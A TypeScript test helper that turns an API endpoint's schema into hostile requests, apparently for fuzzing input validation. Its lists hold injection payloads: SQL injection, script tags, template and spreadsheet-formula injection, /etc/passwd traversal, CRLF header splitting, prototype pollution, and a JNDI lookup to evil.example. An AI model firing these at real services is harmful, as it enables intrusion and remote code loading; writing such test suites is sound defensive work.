import * as z from 'zod/mini'
import type { Endpoint } from '#contract/endpoint.ts'

/** A hostile request, and whether it certainly violates the contract. */
export type HostileRequest = {
  what: string
  path: string
  /** The raw body. */
  body?: string
  headers?: Record<string, string>
  isBroken?: boolean
}

const HUGE = 'x'.repeat(20_000)

// Invalid for every field.
const broken: readonly unknown[] = [
  { $gt: '' },
  [['nested']],
  Number.MAX_SAFE_INTEGER,
  -1e300,
  0.1 + 0.2,
  -0.5,
  HUGE,
  'nul \u0000 byte',
  '\ud800 half a pair',
  { toString: 'x', valueOf: 1, length: -1 },
  Array.from({ length: 5_000 }, () => -1),
]

// Valid for many text fields; harmful if pasted into statements, pages, mails or paths.
const poisonous: readonly string[] = [
  "'; drop table users; --",
  "' or '1'='1",
  '%_\\%',
  '<script>alert(1)</script>',
  '{{constructor.constructor("return this")()}}',
  '${7*7}',
  '=cmd|"/c calc"!A1',
  '../../../../etc/passwd',
  'a\r\nbcc: everybody@foyer.example',
  '\u202egnihtemos \u200f\u2067',
  '𝕱𝖔𝖞𝖊𝖗 👨‍👩‍👧‍👦 Ω ß İ ı',
  'e\u0301'.repeat(100),
  '1e309',
  'NaN',
  '-Infinity',
  '0x10',
  '١٢٣',
  '2026-02-30T25:61:00Z',
  '9'.repeat(30),
  'null',
  '__proto__',
]

// Raw bodies that no JSON writer would produce.
const texts: Record<string, string> = {
  'a deep list': `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
  'a deep object': `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
  'a prototype': '{"__proto__": {"isAdmin": true, "id": 1}}',
  'a constructor': '{"constructor": {"prototype": {"isAdmin": true}}}',
  'a prototype in a list': '[{"__proto__": {"isAdmin": true}}]',
  'a number beyond numbers': '{"id": 1e400, "quantity": -1e400}',
  'a number of many digits': `{"id": ${'9'.repeat(5_000)}}`,
  'not a number': '{"id": NaN}',
  'the same field twice': '{"id": 1, "id": 2}',
  'a comment': '{"id": 1 /* one */}',
  'a comma too many': '{"id": 1,}',
  'single quotes': "{'id': 1}",
  'a byte order mark': '\ufeff{"id": 1}',
  'half of it': '{"id": ',
  'two of them': '{"id": 1}{"id": 2}',
  'spaces alone': ' \n\t ',
  'half a pair': String.raw`{"id": "\ud800"}`,
  'an unknown escape': String.raw`{"id": "\x41"}`,
  'many fields': `{${Array.from({ length: 5_000 }, (_, index) => `"f${index}":${index}`).join()}}`,
}

const headers: readonly Record<string, string>[] = [
  { 'idempotency-key': 'k'.repeat(256) },
  { 'idempotency-key': "'; drop table users; --" },
  { 'idempotency-key': '\u00ff\u00fe' },
  { accept: '*/*;q=abc, \\' },
  { accept: 'x'.repeat(8_000) },
  { 'accept-encoding': 'gzip;q=9e9, br;q=-1, *' },
  { 'accept-language': '../../etc' },
  { 'if-none-match': `"${'x'.repeat(8_000)}"` },
  { 'if-modified-since': 'never' },
  { range: 'bytes=0-1,5-9,-3' },
  { cookie: 'a=b; '.repeat(1_000) },
  { 'x-forwarded-for': "127.0.0.1', '::1" },
  { 'x-forwarded-host': 'evil.example' },
  { 'x-http-method-override': 'DELETE' },
  { 'x-original-url': '/api/v1/users' },
  { forwarded: 'for=_hidden;host=evil' },
  { host: 'evil.example\'"<>' },
  { origin: 'null' },
  { 'content-type': 'application/json; charset=utf-7' },
  { 'content-type': 'application/json, text/plain' },
  { 'content-type': 'multipart/form-data' },
  { 'content-encoding': 'gzip' },
  { 'x-request-id': '${jndi:ldap://evil.example/a}' },
]

const queries: readonly string[] = [
  '__proto__[isAdmin]=true',
  'constructor.prototype.isAdmin=true',
  'pageIndex=0&pageIndex=1',
  'pageIndex[]=1&pageSize[a]=2',
  'pageIndex=-1',
  'pageIndex=1e400',
  'pageIndex=NaN',
  'pageSize=101',
  'pageSize=0',
  'pageSize=%00',
  'pageIndex=9007199254740993',
  '%',
  '%c0%ae%ff',
  '%0d%0aset-cookie:a=b',
  'width[$gt]=',
  'callback=<script>',
  '&&&&====&',
  Array.from({ length: 1_500 }, (_, index) => `q${index}=1`).join('&'),
]

const parameters: readonly string[] = [
  '0',
  '-1',
  '1.5',
  'abc',
  '9'.repeat(30),
  '1e400',
  'NaN',
  'null',
  '__proto__',
  '%00',
  '%0d%0aset-cookie:a=b',
  '%2e%2e%2f',
  '%c0%ae',
  '%EF%BC%91',
  '%E2%80%AE1',
  "1'--",
  '1;1',
  '%F0%9F%98%80',
  'x'.repeat(290),
]

/** Derives hostile requests from an endpoint's schema: every value in every part and as the whole. */
export function hostileRequests(endpoint: Endpoint): HostileRequest[] {
  return [...ofParameters(endpoint), ...ofQuery(endpoint), ...ofBody(endpoint), ...ofTheWhole(endpoint)]
}

function ofParameters({ path }: Endpoint): HostileRequest[] {
  if (!path.includes(':')) return []
  return parameters.map((value) => ({
    path: path.replaceAll(/:\w+/g, value),
    body: '{}',
    isBroken: true,
    what: `parameter ${value}`,
  }))
}

function ofQuery(endpoint: Endpoint): HostileRequest[] {
  return fieldsOf(endpoint.query).flatMap((field) => [
    ...[...poisonous, '', '-1', HUGE.slice(0, 300), 'nul \u0000 byte'].map((value) => ({
      path: `${plainPath(endpoint)}?${new URLSearchParams({ [field]: value })}`,
      what: `query ${field}=${value.slice(0, 40)}`,
    })),
    { path: `${plainPath(endpoint)}?${field}=1&${field}=2`, isBroken: true, what: `query ${field} twice` },
  ])
}

function ofBody(endpoint: Endpoint): HostileRequest[] {
  const fields = fieldsOf(endpoint.body)
  const path = plainPath(endpoint)
  if (fields.length === 0) return []
  const whole = [null, 'text', 5, [], [[]], true].map((body) => ({
    path,
    body: JSON.stringify(body),
    isBroken: true,
    what: `body ${JSON.stringify(body)}`,
  }))
  const each = fields.flatMap((field) =>
    [...broken, ...poisonous].map((value) => ({
      path,
      body: JSON.stringify({ [field]: value }),
      what: `${field}: ${JSON.stringify(value).slice(0, 40)}`,
    })),
  )
  return [...whole, ...each]
}

/** Creates hostile requests that apply to any call. */
function ofTheWhole(endpoint: Endpoint): HostileRequest[] {
  const path = plainPath(endpoint)
  const body = fieldsOf(endpoint.body).length > 0 ? '{}' : undefined
  return [
    ...headers.map((header) => ({
      path,
      ...(body && { body }),
      headers: header,
      what: JSON.stringify(header).slice(0, 60),
    })),
    ...queries.map((query) => ({ path: `${path}?${query}`, what: `query ${query.slice(0, 40)}` })),
    ...(endpoint.method === 'GET' ? [] : Object.entries(texts)).map(([what, text]) => ({ path, body: text, what })),
  ]
}

const plainPath = ({ path }: Endpoint) => path.replaceAll(/:\w+/g, '1')

/** Lists the names of a schema's fields. */
export function fieldsOf(schema: unknown): string[] {
  return schema instanceof z.ZodMiniObject ? Object.keys(schema.shape) : []
}
